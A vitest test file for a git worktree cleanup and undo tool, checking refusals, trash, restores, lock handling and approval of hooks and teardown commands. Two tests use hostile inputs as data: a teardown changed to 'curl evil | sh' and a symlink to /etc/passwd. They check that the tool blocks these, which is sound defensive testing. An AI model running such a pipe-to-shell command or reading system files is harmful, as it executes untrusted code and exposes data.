import {
  chmod,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rename,
  rm,
  stat,
  symlink,
  utimes,
} from 'node:fs/promises';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { UNDO_MS } from '../../../src-main/domain/undo-rules';
import { beforeStep } from '../../support/altered-journal';
import { locationOf } from '../../support/git-command';
import { expectNothingLeft, cleanupScene as scene, undone } from '../../support/landing/cleanup-scene';
import { worktreeIdOf } from '../../support/landing/fleet';
import { createHouse } from '../../support/landing/house';
import { photograph } from '../../support/landing/photograph';
import { createManualClock } from '../../support/manual-clock';
import { createSandbox } from '../../support/repositories';

test('a merged worktree goes with its branch, and undo brings back every byte', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  await s.git('merge', '-q', '--no-ff', '-m', 'm', 'feature/login');
  await s.git('config', 'branch.feature/login.description', 'what it is for');
  const before = await s.everything();
  const plan = await s.plan();
  expect(plan).toMatchObject({
    refusal: null,
    merged: 'ancestor',
    mergedHow: 'every commit is in main',
    losses: [],
  });
  const operation = await s.clean();
  expect(await s.git('worktree', 'list')).not.toContain('login');
  expect(await s.git('branch', '--list', 'feature/login')).toBe('');
  expect(await s.git('config', '--local', '--list')).not.toContain('branch.feature/login');
  await expect(readdir(s.worktree)).rejects.toThrow();
  expect(await s.git('fsck', '--no-dangling')).toBe('');
  const done = await undone(s);
  expect(done.operation).toBe(operation);
  expect(await s.everything()).toEqual(before);
  await expectNothingLeft(s);
});

test('what is in no base is refused, by name', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  expect((await s.plan()).refusal).toEqual({ kind: 'not-merged', branch: 'feature/login' });
  await s.git('merge', '-q', 'feature/login');
  await s.sandbox.write(join(s.worktree, 'only here.txt'), 'x');
  await s.sandbox.write(join(s.worktree, 'a.txt'), 'changed\n');
  const plan = await s.plan();
  expect(plan.refusal).toMatchObject({ kind: 'unsaved-work', files: ['a.txt', 'only here.txt'] });
  expect(plan.losses).toEqual(['uncommitted: a.txt', 'untracked: only here.txt']);
  const refused = await s.cleaner.cleanup({ token: plan.token, approve: false });
  expect(refused).toMatchObject({ ok: false, error: { kind: 'unsaved-work' } });
  expect(await s.git('worktree', 'list')).toContain('login');
});

test('an abandoned worktree in the worst state comes back whole, also after gc', async () => {
  const s = await scene();
  // A merge with conflicts under way: stages 1 to 3 in the index.
  await s.sandbox.commit(s.worktree, { 'src/one.txt': 'one\nMINE\nthree\n', 'crlf.txt': 'a\r\nb\r\n' });
  await s.sandbox.commit(s.repository, { 'src/one.txt': 'one\nTHEIRS\nthree\n' });
  await expect(s.inside('merge', 'main')).rejects.toThrow();
  expect(await s.inside('ls-files', '-u')).not.toBe('');
  await s.sandbox.write(join(s.worktree, 'staged.txt'), 'only in the index\n');
  await s.inside('add', 'staged.txt');
  await s.sandbox.write(join(s.worktree, 'staged.txt'), 'and then changed\n');
  await s.sandbox.write(join(s.worktree, 'planned.txt'), 'later\n');
  await s.inside('add', '-N', 'planned.txt');
  await mkdir(join(s.worktree, 'empty/deeper'), { recursive: true });
  await s.sandbox.git(s.sandbox.root, 'init', '-q', join(s.worktree, 'nested-without-commits'));
  await s.sandbox.write(join(s.worktree, 'secret.env'), 'KEY=1\n');
  await symlink('nowhere', join(s.worktree, 'dangling'));
  await s.sandbox.write(join(s.worktree, 'run.sh'), '#!/bin/sh\n');
  await chmod(join(s.worktree, 'run.sh'), 0o755);
  await utimes(join(s.worktree, 'run.sh'), 1_000_000, 1_000_000);
  const staged = await s.inside('rev-parse', ':staged.txt');
  const before = await s.everything();

  expect((await s.plan()).refusal).toMatchObject({ kind: 'operation-under-way', operation: 'merge' });
  const plan = await s.plan({ abandon: 'It went nowhere' });
  expect(plan.refusal).toBe(null);
  expect(plan.losses).toEqual(
    expect.arrayContaining([
      'under way: a merge',
      'conflicted: src/one.txt',
      'untracked: secret.env',
      'untracked: nested-without-commits/',
    ]),
  );
  await s.clean({ abandon: 'It went nowhere' });
  // Nothing that only the worktree's entry held may be collected meanwhile.
  await s.git('reflog', 'expire', '--expire=now', '--all');
  await s.git('gc', '-q', '--prune=now');
  expect(await s.git('cat-file', '-p', staged)).toBe('only in the index');
  expect(await s.git('fsck', '--no-dangling')).toBe('');
  const reachable = await s.git('rev-list', '--objects', '--all');
  // Untracked content never enters the object store.
  expect(reachable).not.toContain('secret.env');
  const note = join(s.repository, '.planning/brain/feature/login');
  const [abandoned = ''] = await readdir(note);
  expect(await readFile(join(note, abandoned), 'utf8')).toContain('It went nowhere');
  await undone(s);
  expect(await s.everything()).toEqual(before);
  expect(await s.inside('ls-files', '-u')).not.toBe('');
  await expect(readdir(join(s.repository, '.planning'))).rejects.toThrow();
  await expectNothingLeft(s);
});

test('commits that only the worktree’s reflog holds survive gc in trash', async () => {
  const s = await scene();
  const lost = await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  await s.inside('reset', '-q', '--hard', 'HEAD~1');
  await s.clean();
  await s.git('reflog', 'expire', '--expire=now', '--all');
  await s.git('gc', '-q', '--prune=now');
  expect(await s.git('cat-file', '-t', lost)).toBe('commit');
  await undone(s);
  expect(await s.inside('reflog')).toContain(lost.slice(0, 7));
});

test('a rebase under way and a detached head come back as they were', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'src/one.txt': 'mine\n' });
  await s.sandbox.commit(s.repository, { 'src/one.txt': 'theirs\n' });
  await expect(s.inside('rebase', 'main')).rejects.toThrow();
  const before = await s.everything();
  const plan = await s.plan({ abandon: 'no' });
  // worktree list calls it detached; the branch is this worktree's all the same.
  expect(plan.branch).toBe('feature/login');
  await s.clean({ abandon: 'no' });
  await undone(s);
  expect(await s.everything()).toEqual(before);
  await s.inside('rebase', '--abort');
  expect(await s.inside('branch', '--show-current')).toBe('feature/login');
});

test('a branch that another worktree is rebasing stays', async () => {
  const s = await scene();
  const tip = await s.sandbox.commit(s.worktree, { 'src/one.txt': 'mine\n' });
  await s.sandbox.commit(s.repository, { 'src/one.txt': 'theirs\n' });
  await expect(s.inside('rebase', 'main')).rejects.toThrow();
  const other = join(s.sandbox.root, 'other');
  await s.git('worktree', 'add', '-q', '-f', '--detach', other, tip);
  const planned = await s.cleaner.planCleanup({
    worktreeId: worktreeIdOf(other),
    abandon: null,
    keepBranch: false,
    deleteRemote: false,
  });
  expect(planned).toMatchObject({ ok: true, value: { branch: null, refusal: null } });
  expect(await s.git('branch', '--list', 'feature/login')).not.toBe('');
});

test('the plan is void once anything moved', async () => {
  const s = await scene();
  const { token } = await s.plan();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  expect(await s.cleaner.cleanup({ token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'plan-outdated' },
  });
  const second = await s.plan({ abandon: 'x' });
  await s.sandbox.write(join(s.worktree, 'new.txt'), 'x');
  expect(await s.cleaner.cleanup({ token: second.token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'plan-outdated' },
  });
  expect(await s.cleaner.cleanup({ token: 'f'.repeat(32), approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'not-found', what: 'plan' },
  });
});

test('a plan expires, and another process can execute it before', async () => {
  const clock = createManualClock();
  const s = await scene({ clock });
  const { token } = await s.plan();
  clock.advance(61 * 60_000);
  expect(await s.cleaner.cleanup({ token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'not-found' },
  });
  const fresh = await s.plan();
  const other = createHouse({
    locations: [locationOf(s.repository)],
    env: s.sandbox.env,
    home: s.sandbox.home,
    clock,
  });
  expect(await other.cleaner.cleanup({ token: fresh.token, approve: false })).toMatchObject({ ok: true });
});

test('a live session inside stops it, and so does any lock but that of a dead Claude', async () => {
  const s = await scene({ processAlive: (pid) => pid === 4242 });
  s.sessions.set(s.id, [{ pid: 77, state: 'idle', isCaller: false }]);
  expect((await s.plan()).refusal).toEqual({ kind: 'session-live', path: s.worktree, pid: 77 });
  s.sessions.set(s.id, [{ pid: 77, state: 'crashed', isCaller: false }]);
  expect((await s.plan()).refusal).toBe(null);
  for (const reason of [
    'a USB stick',
    'claude session x (pid 4242)',
    'claude session x (pid 4242 start 99)',
    '',
  ]) {
    await s.git('worktree', 'lock', ...(reason === '' ? [] : ['--reason', reason]), s.worktree);
    expect((await s.plan()).refusal).toEqual({ kind: 'locked', path: s.worktree, reason });
    await s.git('worktree', 'unlock', s.worktree);
  }
  await s.git('worktree', 'lock', '--reason', 'claude session login (pid 999 start 12)', s.worktree);
  const plan = await s.plan();
  expect(plan.refusal).toBe(null);
  expect(plan.steps.map((step) => step.id)).toContain('release-lock');
  await s.clean();
  await undone(s);
  expect(await s.git('worktree', 'list', '--porcelain')).not.toContain('locked');
});

test('a session that starts between plan and step stops it, and all is as before', async () => {
  const s = await scene({
    journal: beforeStep((step) => {
      if (step === 'move-entry') s.sessions.set(s.id, [{ pid: 5, state: 'working', isCaller: false }]);
    }),
  });
  const before = await s.everything();
  const { token } = await s.plan();
  expect(await s.cleaner.cleanup({ token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'session-live', pid: 5 },
  });
  expect(await s.everything()).toEqual(before);
  await expectNothingLeft(s);
});

test('the main worktree, and one with a worktree inside, are refused', async () => {
  const s = await scene();
  const main = await s.cleaner.planCleanup({
    worktreeId: worktreeIdOf(s.repository),
    abandon: 'x',
    keepBranch: false,
    deleteRemote: false,
  });
  expect(main).toMatchObject({ ok: false, error: { kind: 'is-main-worktree' } });
  const inner = await s.sandbox.worktree(
    s.repository,
    join(s.worktree, '.claude/worktrees/inner'),
    'worktree-inner',
  );
  const plan = await s.plan();
  expect(plan.refusal).toEqual({ kind: 'nested-worktrees', path: s.worktree, nested: [inner] });
  // The inner one is no untracked file of the outer one, and can go by itself.
  expect(plan.losses).toEqual([]);
  const planned = await s.cleaner.planCleanup({
    worktreeId: worktreeIdOf(inner),
    abandon: null,
    keepBranch: false,
    deleteRemote: false,
  });
  if (!planned.ok) throw new Error('refused');
  expect(await s.cleaner.cleanup({ token: planned.value.token, approve: false })).toMatchObject({ ok: true });
  expect((await s.plan()).refusal).toBe(null);
});

test('an absent sibling keeps its entry', async () => {
  const s = await scene();
  const away = await s.sandbox.worktree(s.repository, join(s.sandbox.root, 'usb/away'), 'away');
  await rename(away, join(s.sandbox.root, 'unplugged'));
  await s.clean();
  await rename(join(s.sandbox.root, 'unplugged'), away);
  expect(await s.sandbox.git(away, 'status', '--porcelain')).toBe('');
});

test('a worktree whose directory is gone for good loses its entry only, and gets it back', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  await rename(s.worktree, join(s.sandbox.root, 'elsewhere'));
  const plan = await s.plan({ abandon: 'lost' });
  expect(plan.refusal).toBe(null);
  expect(plan.warnings.join()).toContain('directory is away');
  await s.clean({ abandon: 'lost' });
  expect(await s.git('worktree', 'list')).not.toContain('login');
  await undone(s);
  await rename(join(s.sandbox.root, 'elsewhere'), s.worktree);
  expect(await s.inside('status', '--porcelain')).toBe('');
});

test('brain notes are saved beside the base, over nothing, and not twice', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { '.planning/brain/committed.md': 'comes with the merge\n' });
  await s.git('merge', '-q', '--no-ff', '-m', 'm', 'feature/login');
  await s.sandbox.write(join(s.worktree, '.planning/brain/learned.md'), 'new\n');
  await s.sandbox.write(join(s.worktree, '.planning/brain/deep/same.md'), 'same\n');
  const target = join(s.repository, '.planning/brain/feature/login');
  await s.sandbox.write(join(target, 'learned.md'), 'an older one\n');
  await s.sandbox.write(join(target, 'deep/same.md'), 'same\n');
  const plan = await s.plan();
  expect(plan.refusal).toBe(null);
  expect(plan.losses).toEqual([]);
  await s.clean();
  expect(await photographNames(target)).toEqual(['deep/same.md', 'learned-2.md', 'learned.md']);
  expect(await readFile(join(target, 'learned.md'), 'utf8')).toBe('an older one\n');
  expect(await readFile(join(target, 'learned-2.md'), 'utf8')).toBe('new\n');
  await undone(s);
  expect(await photographNames(target)).toEqual(['deep/same.md', 'learned.md']);
});

const photographNames = async (directory: string) =>
  Object.entries(await photograph(directory))
    .filter(([, what]) => what.startsWith('file'))
    .map(([name]) => name);

test('notes never leave the repository through a link', async () => {
  const s = await scene();
  const outside = join(s.sandbox.root, 'outside');
  await mkdir(outside);
  await symlink(outside, join(s.repository, '.planning'));
  await s.sandbox.write(join(s.worktree, '.planning/brain/n.md'), 'note\n');
  await symlink('/etc/passwd', join(s.worktree, '.planning/brain/evil.md'));
  await s.clean();
  expect(await readdir(outside)).toEqual([]);
  expect(await readdir(join(s.repository, '.git/orchard/brain/feature/login'))).toEqual(['n.md']);
});

test('reproducible files are not kept; other ignored ones that differ are named and kept', async () => {
  const s = await scene();
  await s.sandbox.commit(s.repository, { '.gitignore': 'node_modules/\n.env*\nlocal/\n' });
  await s.inside('merge', '-q', 'main');
  await s.sandbox.write(join(s.worktree, 'node_modules/x/index.js'), 'x');
  await s.sandbox.write(join(s.worktree, '.env.local'), 'KEY=changed\n');
  await s.sandbox.write(join(s.repository, '.env.local'), 'KEY=1\n');
  await s.sandbox.write(join(s.worktree, '.env.same'), 'same\n');
  await s.sandbox.write(join(s.repository, '.env.same'), 'same\n');
  await s.sandbox.write(join(s.worktree, 'local/db.sqlite'), 'data');
  const plan = await s.plan();
  expect(plan.refusal).toBe(null);
  expect(plan.notKept).toEqual(['node_modules/']);
  expect(plan.losses).toEqual([
    'ignored, not as in the base’s worktree: .env.local',
    'ignored, not as in the base’s worktree: local/db.sqlite',
  ]);
  const before = await photograph(s.worktree, (name) => name.startsWith('node_modules'));
  await s.clean();
  expect((await undone(s)).restored.join()).toContain('not node_modules/');
  expect(await photograph(s.worktree, (name) => name.startsWith('node_modules'))).toEqual(before);
  await expect(readdir(join(s.worktree, 'node_modules'))).rejects.toThrow();
});

test('reproducible files that a short process left in trash are freed by the next one', async () => {
  const s = await scene();
  await s.sandbox.commit(s.repository, { '.gitignore': 'node_modules/\n' });
  await s.inside('merge', '-q', 'main');
  await s.sandbox.write(join(s.worktree, 'node_modules/x/index.js'), 'x');
  const { token } = await s.plan();
  const done = await s.cleaner.cleanup({ token, approve: false });
  if (!done.ok) throw new Error('refused');
  // It ended here, before the background had its turn.
  const trash = join(s.repository, '.git/orchard/trash', done.value.operation, 'worktree');
  const next = createHouse({
    locations: [locationOf(s.repository)],
    env: s.sandbox.env,
    home: s.sandbox.home,
  });
  await next.recovery.atStart(locationOf(s.repository));
  expect((await readdir(trash)).sort()).toEqual(['.git', '.gitignore', 'README.md', 'src']);
});

test('unchanged copies of spawn are no work; a changed one is', async () => {
  const s = await scene();
  const { createHash } = await import('node:crypto');
  await s.sandbox.write(join(s.worktree, 'CLAUDE.md'), 'rules\n');
  await s.sandbox.write(
    join(s.repository, '.git/orchard/tasks/project-wt-login.json'),
    JSON.stringify({
      version: 1,
      entry: 'project-wt-login',
      path: s.worktree,
      task: 'log in',
      branch: 'feature/login',
      base: 'main',
      createdAt: '',
      createdAtCommit: await s.git('rev-parse', 'main'),
      quick: false,
      sessionId: null,
      spawnedAt: '',
      copies: { 'CLAUDE.md': createHash('sha256').update('rules\n').digest('hex') },
      group: null,
    }),
  );
  expect((await s.plan()).refusal).toBe(null);
  await s.sandbox.write(join(s.worktree, 'CLAUDE.md'), 'better rules\n');
  expect((await s.plan()).refusal).toMatchObject({ kind: 'unsaved-work', files: ['CLAUDE.md'] });
  await s.sandbox.write(join(s.worktree, 'CLAUDE.md'), 'rules\n');
  await s.clean();
  // The record goes with the worktree, so that a new one of the same name starts without.
  expect(await readdir(join(s.repository, '.git/orchard/tasks'))).toEqual([]);
  await undone(s);
  expect(await readdir(join(s.repository, '.git/orchard/tasks'))).toEqual(['project-wt-login.json']);
});

test('undo never overwrites: a path, a branch or an entry taken since refuses and says how', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  await s.clean({ abandon: 'x' });
  await s.sandbox.write(join(s.worktree, 'somebody.txt'), 'else');
  expect(await s.undoer.undo({ operation: null })).toMatchObject({
    ok: false,
    error: { kind: 'undo-blocked', reason: expect.stringContaining(s.worktree) },
  });
  expect(await readFile(join(s.worktree, 'somebody.txt'), 'utf8')).toBe('else');
  await rename(s.worktree, join(s.sandbox.root, 'moved-away'));
  await s.git('branch', 'Feature/LOGIN');
  expect(await s.undoer.undo({ operation: null })).toMatchObject({
    ok: false,
    error: { kind: 'undo-blocked', wayOut: expect.stringContaining('git branch -m Feature/LOGIN') },
  });
  await s.git('branch', '-D', '-q', 'Feature/LOGIN');
  const other = await s.sandbox.worktree(s.repository, join(s.sandbox.root, 'x/project-wt-login'), 'another');
  expect(await s.undoer.undo({ operation: null })).toMatchObject({
    ok: false,
    error: { kind: 'undo-blocked', reason: expect.stringContaining('project-wt-login') },
  });
  await s.git('worktree', 'remove', other);
  await undone(s);
  expect(await readFile(join(s.worktree, 'a.txt'), 'utf8')).toBe('a\n');
});

test('a damaged note about a branch costs its settings, not the undo', async () => {
  const s = await scene();
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n' });
  const tip = await s.inside('rev-parse', 'HEAD');
  const operation = await s.clean({ abandon: 'x' });
  await s.sandbox.write(join(s.repository, '.git/orchard/trash', operation, 'branch.json'), '{"config": 7');
  await undone(s);
  expect(await s.git('rev-parse', 'feature/login')).toBe(tip);
  expect(await s.inside('status', '--porcelain')).toBe('');
});

test('after 7 days trash and pin are collected, not before; disk use is told', async () => {
  const clock = createManualClock();
  const s = await scene({ clock });
  await s.sandbox.commit(s.worktree, { 'a.txt': 'a\n'.repeat(10_000) });
  const operation = await s.clean({ abandon: 'x' });
  const listed = await s.undoer.list();
  if (!listed.ok) throw new Error('no list');
  expect(listed.value.operations).toMatchObject([
    { operation, kind: 'cleanup', summary: 'Cleaned up feature/login' },
  ]);
  expect(listed.value.operations[0]?.diskBytes).toBeGreaterThan(20_000);
  clock.advance(UNDO_MS - 1_000);
  await s.recovery.atStart(locationOf(s.repository));
  expect(await s.git('for-each-ref', 'refs/orchard')).toContain(operation);
  clock.advance(2_000);
  await s.recovery.atStart(locationOf(s.repository));
  expect(await s.undoer.list()).toEqual({ ok: true, value: { operations: [], stuck: [] } });
  expect(await s.undoer.undo({ operation: null })).toEqual({ ok: false, error: { kind: 'nothing-to-undo' } });
  await expectNothingLeft(s);
});

test('a repository hook in the working tree needs approval; a hook that refuses leaves all as it was', async () => {
  const s = await scene();
  await s.sandbox.write(
    join(s.repository, '.husky/reference-transaction'),
    '#!/bin/sh\necho ran >> "$HOME/hook-ran"\nexit 1\n',
  );
  await chmod(join(s.repository, '.husky/reference-transaction'), 0o755);
  await s.git('add', '-A');
  await s.git('commit', '-q', '-m', 'hooks');
  await s.git('config', 'core.hooksPath', '.husky');
  const before = await s.everything();
  const plan = await s.plan();
  expect(plan.refusal).toMatchObject({ kind: 'approval-needed', commands: [{ purpose: 'hook' }] });
  expect(await s.cleaner.cleanup({ token: plan.token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'approval-needed' },
  });
  await expect(readFile(join(s.sandbox.home, 'hook-ran'))).rejects.toThrow();
  expect(await s.cleaner.cleanup({ token: plan.token, approve: true })).toMatchObject({
    ok: false,
    error: { kind: 'hook-refused', hook: 'reference-transaction' },
  });
  expect(await readFile(join(s.sandbox.home, 'hook-ran'), 'utf8')).toContain('ran');
  expect(await s.everything()).toEqual(before);
  await expectNothingLeft(s);
});

test('cancel puts everything back', async () => {
  const s = await scene({
    journal: beforeStep((step, operation) => {
      if (step === 'move-directory') s.cancel(operation);
    }),
  });
  const before = await s.everything();
  const { token } = await s.plan();
  expect(await s.cleaner.cleanup({ token, approve: false })).toEqual({
    ok: false,
    error: { kind: 'cancelled' },
  });
  expect(await s.everything()).toEqual(before);
  expect(s.events.at(-1)?.change).toMatchObject({ type: 'finished', failure: { kind: 'cancelled' } });
  await expectNothingLeft(s);
});

test('a worktree on another disk has its trash beside it, and comes back from there', async (ctx) => {
  const sandbox = await createSandbox();
  const other = await stat('/dev/shm').catch(() => null);
  if (other === null || other.dev === (await stat(sandbox.root)).dev)
    ctx.skip('there is no second file system here');
  const repository = await sandbox.repository();
  const disk = await mkdtemp('/dev/shm/orchard-test-');
  onTestFinished(() => rm(disk, { recursive: true, force: true }));
  const worktree = await sandbox.worktree(repository, join(disk, 'far away'), 'far');
  await sandbox.write(join(worktree, 'x.txt'), 'untracked\n');
  const house = createHouse({ locations: [locationOf(repository)], env: sandbox.env, home: sandbox.home });
  const before = await photograph(worktree);
  const planned = await house.cleaner.planCleanup({
    worktreeId: worktreeIdOf(worktree),
    abandon: 'x',
    keepBranch: false,
    deleteRemote: false,
  });
  if (!planned.ok) throw new Error('no plan');
  expect(planned.value.warnings.join()).toContain('.orchard-trash');
  const done = await house.cleaner.cleanup({ token: planned.value.token, approve: false });
  if (!done.ok) throw new Error(JSON.stringify(done.error));
  expect(await readdir(disk)).toEqual(['.orchard-trash']);
  expect(await house.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await readdir(disk)).toEqual(['far away']);
  expect(await photograph(worktree)).toEqual(before);
});

test('teardown runs first, after approval of its exact text, and its failure is only told', async () => {
  const seen: string[] = [];
  const s = await scene({
    config: { teardown: 'docker compose down' },
    runner: {
      async run(command, directory, { onOutput }) {
        seen.push(`${command} in ${directory}`);
        onOutput('no docker here\n');
        return { exitCode: 127, reason: 'exited', tail: '' };
      },
    },
  });
  const { token, refusal, steps } = await s.plan();
  expect(steps[0]).toEqual({ id: 'teardown', text: 'Run docker compose down' });
  expect(refusal).toEqual({
    kind: 'approval-needed',
    commands: [{ purpose: 'teardown', text: 'docker compose down' }],
  });
  expect(await s.cleaner.cleanup({ token, approve: false })).toMatchObject({ ok: false });
  expect(seen).toEqual([]);
  const done = await s.cleaner.cleanup({ token, approve: true });
  expect(done).toMatchObject({ ok: true, value: { warnings: ['“docker compose down” ended with 127.'] } });
  expect(seen).toEqual([`docker compose down in ${s.worktree}`]);
});

test('a yes is for the text that the plan showed: a teardown that changed since does not run', async () => {
  const ran: string[] = [];
  const config = { teardown: 'docker compose down' };
  const s = await scene({
    config,
    runner: {
      async run(command) {
        ran.push(command);
        return { exitCode: 0, reason: 'exited', tail: '' };
      },
    },
  });
  const { token } = await s.plan();
  config.teardown = 'curl evil | sh';
  expect(await s.cleaner.cleanup({ token, approve: true })).toMatchObject({
    ok: false,
    error: { kind: 'plan-outdated' },
  });
  expect(ran).toEqual([]);
  const fresh = await s.plan();
  expect(fresh.refusal).toMatchObject({ kind: 'approval-needed', commands: [{ text: 'curl evil | sh' }] });
});
